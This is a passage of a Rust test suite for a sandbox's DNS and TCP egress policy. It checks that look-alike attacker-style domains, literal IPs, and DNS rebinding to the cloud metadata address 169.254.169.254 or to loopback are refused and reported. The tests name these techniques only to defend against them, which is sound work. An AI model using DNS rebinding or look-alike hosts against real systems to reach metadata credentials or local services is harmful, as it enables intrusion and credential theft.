out["look"] = {{n: resolve(n) for n in [{names}]}}
out["look_tcp"] = {{n: tcp(n, 443) for n in [{names}]}}
out["literal"] = tcp("203.0.113.66", 443)
out["allowed"] = tcp("api.example.com", 443)
"#
        ),
    );
    for name in look_alikes {
        assert_eq!(
            out["look"][name]["ok"],
            false,
            "look-alike {name} resolved: {}\n{}",
            out["look"][name],
            run.context()
        );
        assert_eq!(
            out["look_tcp"][name]["ok"],
            false,
            "a connect to look-alike {name} worked\n{}",
            run.context()
        );
        assert_refused_event(&run, name);
    }
    assert_script_eperm(&run, &out, "literal");
    assert_eq!(
        out["allowed"]["ok"],
        true,
        "control in the cgroup\n{}",
        run.context()
    );
    assert!(
        ok.wait_accepted(1, WAIT),
        "the permitted name's host got its connection"
    );
    std::thread::sleep(QUIET);
    assert_eq!(
        evil.accepted(),
        1,
        "the look-alike's host got a connection\n{}",
        run.context()
    );
    assert!(world.wait_query("api.example.com", WAIT), "{}", world.log());
    let q = world.queries();
    for name in look_alikes {
        let n = q.iter().filter(|x| *x == name).count();
        let want = usize::from(name == "evilexample.com");
        assert_eq!(n, want, "look-alike {name} reached the upstream: {q:?}");
    }
}

/// A permitted name whose answer is `addr` (a rebinding target): a control shows the listener
/// on `addr:port` is reachable outside the cgroup; inside, neither the name nor the literal
/// address connects, both denies are reported, and a warning names the rebinding guard.
fn rebinding_is_refused(name: &str, addr: &str, port: u16, what: &str) {
    let world = DnsWorld::builder()
        .address("allowed.example.com", "198.51.100.10")
        .host_record(name, &[addr], None)
        .start();
    let listener = world.listen_tcp(&format!("{addr}:{port}"));
    let reachable = world
        .netns()
        .run_in(|| TcpStream::connect_timeout(&listener.addr(), WAIT).is_ok());
    assert!(
        reachable && listener.wait_accepted(1, WAIT),
        "control: the {what} listener is reachable outside the cgroup"
    );
    let (run, out) = run_script(
        &world,
        &dns_policy(&format!(
            "  - host: {name}\n    ports: [{port}]\n    protocol: tcp\n    name_check: false\n"
        )),
        &format!(
            r#"
out["r"] = resolve("{name}")
out["by_name"] = tcp("{name}", {port})
out["literal"] = tcp("{addr}", {port})
"#
        ),
    );
    assert_script_eperm(&run, &out, "by_name");
    assert_script_eperm(&run, &out, "literal");
    std::thread::sleep(QUIET);
    assert_eq!(
        listener.accepted(),
        1,
        "the {what} listener got a connection\n{}",
        run.context()
    );
    let warned = run.events_of("warning").iter().any(|e| {
        e["message"]
            .as_str()
            .is_some_and(|m| m.contains(addr) && m.contains("rebinding guard"))
    });
    assert!(
        warned,
        "a warning names the rebinding guard\n{}",
        run.context()
    );
    let d = denies_for(&run, addr, port);
    assert_eq!(
        d.len(),
        2,
        "both connects denied and reported\n{}",
        run.context()
    );
}

/// A permitted name that answers the cloud metadata address.
#[test]
fn dns_rebinding_to_metadata() {
    rebinding_is_refused("meta.example.com", "169.254.169.254", 80, "metadata");
}

/// A permitted name that answers loopback, where a local proxy or a container engine listens.
#[test]
fn dns_rebinding_to_loopback() {
    rebinding_is_refused("local.example.com", "127.0.0.1", 3128, "loopback");
}
